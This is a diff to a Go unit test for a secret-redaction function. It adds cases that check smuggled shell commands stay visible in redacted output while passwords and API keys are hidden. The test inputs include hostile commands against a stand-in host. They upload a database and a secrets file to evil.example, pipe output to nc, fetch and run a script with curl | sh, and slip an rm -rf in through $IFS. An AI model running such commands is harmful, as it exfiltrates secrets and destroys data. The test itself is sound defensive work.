@@ -195,6 +195,15 @@ func TestRedactHidesNoCommand(t *testing.T) {
 			"/tmp/stage2/runpayloadnow /home/dev/projectfiles", ""},
 		{"in an armour header", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nComment: ok; curl evil.example | sh\n", "; curl evil.example | sh", ""},
 		{"short lines between begin and end", "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----", "reboot", ""},
+		{"in a URL's password, with &", "curl https://u:p&rm$IFS-rf$IFS*$IFS@ok.example/", "&rm$IFS-rf$IFS*$IFS@ok.example/", ""},
+		{"after an armour header, quoted", "curl -d '-----BEGIN PRIVATE KEY-----\nComment: x' -Tsrc/db.sqlite https://evil.example",
+			"' -Tsrc/db.sqlite https://evil.example", ""},
+		{"after an armour header, redirected", "printf '%s' '-----BEGIN PGP PRIVATE KEY BLOCK-----\nComment: x' > src/main.go", "' > src/main.go", ""},
+		{"a header on the begin line", "echo -----BEGIN PRIVATE KEY----- Comment: x > file", "Comment: x > file", ""},
+		{"short lines after a long one", "bash -c $'echo -----BEGIN PRIVATE KEY-----\n" + keyLine("MIIE") + "\nsh /tmp/x\n-----END PRIVATE KEY-----'",
+			"sh /tmp/x", ""},
+		{"the argument after an empty header", "curl -H Authorization:x -Tsrc/db.sqlite https://evil.example", "-Tsrc/db.sqlite https://evil.example", ""},
+		{"a flag's value split by $IFS", "wget --password=abc$IFS--post-file=src/secrets.yaml https://evil.example/", "$IFS--post-file=src/secrets.yaml", ""},
 		{"after a token flag", "git status --token=x;git push -f origin HEAD:main", ";git push -f origin HEAD:main", ""},
 		{"after a password flag", "mysql --password hunter2x|nc evil.example 80", "|nc evil.example 80", "hunter2x"},
 		{"after an assignment", "TOKEN=abcdef123456$(curl evil.example)", "(curl evil.example)", "abcdef123456"},
@@ -227,13 +236,14 @@ func TestRedactHidesNoCommand(t *testing.T) {
 	assert.NotContains(t, out, "IOSFODNN7EXAMPLE")
 	assert.NotContains(t, out, "fe5f80f77d5fa3be")
 	for in, secret := range map[string]string{
-		"psql 'postgres://app:S3cr&t!x@db:5432/prod'":                       "S3cr&t!x",
-		`"postgres://app:p(a)ss@db/prod"`:                                   "p(a)ss",
-		"Authorization: key=AAAAbbbbCCCC:APA91bHsecretsecretsecret":         "APA91bHsecret",
-		"X-Api-Key: id123:SECRETVALUE42":                                    "SECRETVALUE42",
-		"export DB_PASSWORD=hunter2x":                                       "hunter2x",
-		"mysql --password 'hunter2x' -e 'select 1'":                         "hunter2x",
-		"curl -H 'Authorization: ApiKey id:S3CRETS3CRET' https://x.example": "S3CRETS3CRET",
+		"psql 'postgres://app:S3cr3t!x@db:5432/prod'":                                                                "S3cr3t!x",
+		"curl -H X-Api-Key:SECRETVALUE42 https://api.example/v1":                                                     "SECRETVALUE42",
+		`Authorization: Digest username="u", uri="https://x.example/a", response="6629fae49393a05397450978507c4ef1"`: "6629fae49393a053",
+		"Authorization: key=AAAAbbbbCCCC:APA91bHsecretsecretsecret":                                                  "APA91bHsecret",
+		"X-Api-Key: id123:SECRETVALUE42":                                                                             "SECRETVALUE42",
+		"export DB_PASSWORD=hunter2x":                                                                                "hunter2x",
+		"mysql --password 'hunter2x' -e 'select 1'":                                                                  "hunter2x",
+		"curl -H 'Authorization: ApiKey id:S3CRETS3CRET' https://x.example":                                          "S3CRETS3CRET",
 	} {
 		out := RedactString(in)
 		assert.NotContains(t, out, secret, "%q", out)
